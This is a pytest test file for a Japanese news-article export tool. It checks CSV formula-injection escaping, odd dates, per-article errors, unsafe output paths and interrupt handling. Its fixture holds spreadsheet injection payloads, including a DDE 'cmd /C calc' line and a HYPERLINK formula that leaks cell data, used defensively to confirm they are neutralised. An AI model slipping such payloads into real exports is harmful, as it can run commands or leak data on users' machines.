"""Issue 12: export under hostile articles and output-path mistakes."""
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import pytest

from kiji.cli import main

ROOT = Path(__file__).resolve().parents[1]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

ARTICLE = "首相が会見\n岸田首相は記者会見で、経済対策の規模について「十分な額になる」と述べた。\n野党は補正予算案の早期提出を求めている。\n"
FORMULA = ('=HYPERLINK("http://example.invalid/?q="&A1,"詳細")\n'
           "+cmd|' /C calc'!A0 と首相は述べた。\n"
           "-2+3 の補正予算案が衆議院で可決された。\n"
           "@SUM(1) 関係者によると、採決は深夜に及んだ。\n")


def _folder(tmp_path, files: dict[str, str]) -> Path:
    folder = tmp_path / "arts"
    folder.mkdir()
    for name, text in files.items():
        (folder / name).write_text(text, encoding="utf-8")
    return folder


def _is_number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


def _formula_cells(out: Path) -> list[tuple[str, str]]:
    bad = []
    for csv in sorted(out.rglob("*.csv")):
        frame = pd.read_csv(csv, encoding="utf-8-sig", dtype=str, keep_default_na=False)
        for col in frame.columns:
            for cell in frame[col]:
                if cell.startswith(FORMULA_START) and not _is_number(cell):
                    bad.append((csv.name, cell))
        bad += [(csv.name, c) for c in frame.columns if c.startswith(FORMULA_START)]
    return bad


def test_formula_article_is_neutralised_in_csv_not_in_parquet(tmp_path, capsys):
    folder = _folder(tmp_path, {"a.txt": ARTICLE, "formula.txt": FORMULA, "=cmd.txt": ARTICLE})
    out = tmp_path / "out"
    assert main(["export", "--articles", str(folder), "--out", str(out), "--csv", "all"]) == 0
    assert _formula_cells(out) == []
    articles = pd.read_parquet(out / "articles.parquet")
    assert articles.set_index("source_file").loc["formula.txt", "title"].startswith("=HYPERLINK")
    csv = pd.read_csv(out / "articles.csv", encoding="utf-8-sig", keep_default_na=False)
    assert csv.set_index("source_file").loc["formula.txt", "title"].startswith("'=HYPERLINK")
    assert "'=cmd.txt" in csv.source_file.tolist()
    assert pd.api.types.is_integer_dtype(csv["n_sentences"])  # numbers stay numbers
    sentences = pd.read_csv(out / "sentences.csv", encoding="utf-8-sig", keep_default_na=False)
    assert sentences.text.str.startswith("'-2+3").any()


def test_year_9999_date_does_not_stop_the_run(tmp_path):
    folder = _folder(tmp_path, {
        "a.txt": ARTICLE,
        "y9999.txt": "9999年12月31日\n大みそかの決勝\n明日、決勝戦が行われると監督は述べた。\n昨日は雨だった。来年も開催される。\n",
        "y0001.txt": "0001年1月1日\n元日の話\n昨日は月曜日だったと選手は語った。先月の試合も接戦だった。\n"})
    out = tmp_path / "out"
    assert main(["export", "--articles", str(folder), "--out", str(out)]) == 0
    articles = pd.read_parquet(out / "articles.parquet")
    assert sorted(articles.source_file) == ["a.txt", "y0001.txt", "y9999.txt"]
    events = pd.read_parquet(out / "events.parquet")
    assert (events.article_id == "y9999").any()


def test_an_analysis_error_in_one_article_marks_it_and_the_run_goes_on(tmp_path, monkeypatch, capsys):
    import kiji.sourcing.stage as extractor

    original = extractor.article_rows

    def fragile(ex, article_id, group):
        if article_id == "bad":
            raise RuntimeError("boom in the extractor")
        return original(ex, article_id, group)

    monkeypatch.setattr(extractor, "article_rows", fragile)
    folder = _folder(tmp_path, {"good.txt": ARTICLE, "bad.txt": ARTICLE.replace("首相", "知事")})
    out = tmp_path / "out"
    assert main(["export", "--articles", str(folder), "--out", str(out), "--cache", "off"]) == 0
    printed = capsys.readouterr()
    assert "bad" in printed.out and "boom in the extractor" in printed.out
    articles = pd.read_parquet(out / "articles.parquet").set_index("article_id")
    assert "sources" in articles.loc["bad", "warnings"] and "boom" in articles.loc["bad", "warnings"]
    sources = pd.read_parquet(out / "sources.parquet")
    assert (sources.article_id == "good").any() and not (sources.article_id == "bad").any()


@pytest.mark.parametrize("where", ["same", "inside"])
def test_out_equal_to_or_inside_the_articles_folder_is_refused_before_any_work(tmp_path, capsys, where):
    folder = _folder(tmp_path, {"a.txt": ARTICLE})
    out = folder if where == "same" else folder / "export"
    assert main(["export", "--articles", str(folder), "--out", str(out)]) == 2
    printed = capsys.readouterr()
    assert "articles loaded" not in printed.out
    assert len(printed.err.strip().splitlines()) == 1 and "articles folder" in printed.err
    assert sorted(p.name for p in folder.iterdir()) == ["a.txt"]


@pytest.mark.parametrize("out", [ROOT / "notebooks", ROOT, ROOT / "notebooks" / "x"])
def test_out_over_the_project_notebooks_is_refused(tmp_path, capsys, out):
    folder = _folder(tmp_path, {"a.txt": ARTICLE})
    before = {p.name: p.stat().st_mtime_ns for p in (ROOT / "notebooks").iterdir()}
    assert main(["export", "--articles", str(folder), "--out", str(out)]) == 2
    assert "notebooks" in capsys.readouterr().err
    assert {p.name: p.stat().st_mtime_ns for p in (ROOT / "notebooks").iterdir()} == before


def test_output_path_problems_are_one_line_before_the_analysis(tmp_path):
    folder = _folder(tmp_path, {"a.txt": ARTICLE})
    (tmp_path / "a_file").write_text("x")
    for out in (tmp_path / "a_file", Path("/proc/kiji-out"), tmp_path / "a_file" / "sub"):
        start = time.monotonic()
        result = subprocess.run([sys.executable, "-m", "kiji", "export", "--articles", str(folder), "--out", str(out)],
                                capture_output=True, text=True)
        assert result.returncode == 2, (out, result.stderr)
        assert "Traceback" not in result.stderr and len(result.stderr.strip().splitlines()) == 1, result.stderr
        assert "articles loaded" not in result.stdout
        assert time.monotonic() - start < 60


def test_unrelated_files_in_out_are_left_alone(tmp_path):
    folder = _folder(tmp_path, {"a.txt": ARTICLE})
    out = tmp_path / "out"
    (out / "notes").mkdir(parents=True)
    (out / "mine.txt").write_text("my notes")
    (out / "notes" / "plan.csv").write_text("a,b\n1,2\n")
    inode = (out / "mine.txt").stat().st_ino
    for _ in range(2):
        assert main(["export", "--articles", str(folder), "--out", str(out)]) == 0
        assert (out / "mine.txt").read_text() == "my notes" and (out / "mine.txt").stat().st_ino == inode
        assert (out / "notes" / "plan.csv").read_text() == "a,b\n1,2\n"
    assert (out / "articles.csv").exists()
    assert not [p for p in tmp_path.iterdir() if ".kiji-" in p.name]


def test_second_export_replaces_the_first_completely(tmp_path):
    folder = _folder(tmp_path, {"a.txt": ARTICLE, "b.txt": ARTICLE.replace("首相", "知事")})
    out = tmp_path / "out"
    assert main(["export", "--articles", str(folder), "--out", str(out)]) == 0
    (folder / "b.txt").unlink()
    assert main(["export", "--articles", str(folder), "--out", str(out)]) == 0
    assert pd.read_parquet(out / "articles.parquet").source_file.tolist() == ["a.txt"]
    assert pd.read_csv(out / "articles.csv", encoding="utf-8-sig").source_file.tolist() == ["a.txt"]


def test_wrong_shaped_manifest_in_out_is_ignored_with_a_warning(tmp_path, capsys):
    from kiji.report.manifest import read_manifest

    folder = _folder(tmp_path, {"a.txt": ARTICLE})
    out = tmp_path / "out"
    for bad in ('[1, 2]', '{"articles": ["a"]}', '{"figures": {"x": "many"}}', "not json"):
        out.mkdir(exist_ok=True)
        (out / "kiji-run.json").write_text(bad, encoding="utf-8")
        warnings = []
        assert read_manifest(out, warnings.append) is None and len(warnings) == 1
        assert main(["export", "--articles", str(folder), "--out", str(out)]) == 0
        assert "kiji-run.json" in capsys.readouterr().err
        assert read_manifest(out) is not None  # replaced by this run's manifest


def test_ctrl_c_exits_130_with_one_line_and_leaves_out_unchanged(tmp_path):
    folder = tmp_path / "arts"
    shutil.copytree(ROOT / "seeds", folder)
    out = tmp_path / "out"
    out.mkdir()
    (out / "mine.txt").write_text("keep")
    env = {**os.environ, "KIJI_CACHE": "off", "PYTHONUNBUFFERED": "1"}
    # default SIGINT handling in the child even when the test run itself ignores SIGINT (a background job)
    proc = subprocess.Popen([sys.executable, "-m", "kiji", "export", "--articles", str(folder), "--out", str(out)],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env,
                            preexec_fn=lambda: subprocess.signal.signal(subprocess.signal.SIGINT,
                                                                        subprocess.signal.SIG_DFL))
    # a positive sign, not a delay: kiji.cli.main installs its SIGINT handler before anything else, and
    # "analysing:" is printed once the corpus is loaded and the per-article work (the point this test
    # means) begins; the seeds take seconds to tokenize without cache, so the run is still working
    seen = []
    for line in proc.stdout:
        seen.append(line)
        if line.startswith("  analysing:"):
            break
    assert proc.poll() is None, f"kiji export ended before the analysis began: {seen}"
    proc.send_signal(subprocess.signal.SIGINT)
    _, err = proc.communicate(timeout=120)
    assert proc.returncode == 130, err
    assert len(err.strip().splitlines()) == 1 and "interrupted" in err and "Traceback" not in err
    assert sorted(p.name for p in out.iterdir()) == ["mine.txt"]
    assert not [p for p in tmp_path.iterdir() if ".kiji-" in p.name]


def test_report_ignores_a_wrong_manifest_and_never_lists_foreign_files(tmp_path, monkeypatch):
    from kiji.report.run import render_reports

    monkeypatch.setenv("KIJI_CACHE", str(tmp_path / "cache"))
    folder = _folder(tmp_path, {"a.txt": ARTICLE})
    notebooks = tmp_path / "nbs"
    notebooks.mkdir()
    out = tmp_path / "out"
    (out / "data").mkdir(parents=True)
    (out / "data" / "foreign.csv").write_text("x\n1\n")
    (out / "mine.txt").write_text("keep")
    (out / "kiji-run.json").write_text('{"articles": ["a"], "figures": 3}', encoding="utf-8")
    warnings = []
    render_reports(folder, out, notebooks=notebooks, log=lambda *a: None, warn=warnings.append)
    assert any("kiji-run.json" in w for w in warnings)
    index = (out / "index.html").read_text(encoding="utf-8")
    assert "First run into this folder" in index
    assert "foreign.csv" not in index and 'href="data/articles.csv"' in index
    assert (out / "data" / "foreign.csv").read_text() == "x\n1\n" and (out / "mine.txt").read_text() == "keep"


@pytest.mark.slow
def test_report_killed_while_running_leaves_the_previous_reports(tmp_path):
    import json
    import signal

    import nbformat

    folder = _folder(tmp_path, {"a.txt": ARTICLE})
    notebooks = tmp_path / "nbs"
    notebooks.mkdir()
    nb = nbformat.v4.new_notebook(metadata={"kernelspec": {"name": "python3", "display_name": "Python 3",
                                                           "language": "python"},
                                            "language_info": {"name": "python"}})
    nb.cells = [nbformat.v4.new_markdown_cell("# Slow"), nbformat.v4.new_code_cell("ARTICLES = ''", metadata={"tags": ["parameters"]}),
                nbformat.v4.new_code_cell("import time\nprint('run', flush=True)\ntime.sleep(float(open('delay').read()))")]  # noqa: E501
    nbformat.write(nb, notebooks / "01_slow.ipynb")
    (notebooks / "delay").write_text("0")
    out = tmp_path / "out"
    env = {**os.environ, "KIJI_CACHE": str(tmp_path / "cache")}
    cmd = [sys.executable, "-m", "kiji", "report", "--articles", str(folder), "--out", str(out), "--notebooks", str(notebooks)]
    assert subprocess.run(cmd, env=env, capture_output=True).returncode == 0
    before = json.loads((out / "kiji-run.json").read_text(encoding="utf-8"))
    (notebooks / "delay").write_text("20")
    (folder / "b.txt").write_text(ARTICLE.replace("首相", "知事"), encoding="utf-8")
    proc = subprocess.Popen(cmd, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, text=True)
    # the terminal prints a notebook's line when it ends: watch the staging folder for the new run's
    # executed notebook instead (papermill writes it when the notebook starts)
    deadline = time.monotonic() + 120
    while not list(tmp_path.glob(".out.kiji-new-*/notebooks/01_slow.ipynb")) and time.monotonic() < deadline:
        assert proc.poll() is None, "the report ended before its slow notebook started"
        time.sleep(0.2)
    time.sleep(2)
    proc.send_signal(signal.SIGKILL)
    proc.wait(timeout=60)
    assert json.loads((out / "kiji-run.json").read_text(encoding="utf-8")) == before
    assert sorted(p.name for p in out.iterdir()) == sorted(["01_slow.html", "data", "index.html", "kiji-run.json", "notebooks"])
    assert "b" not in before["articles"]
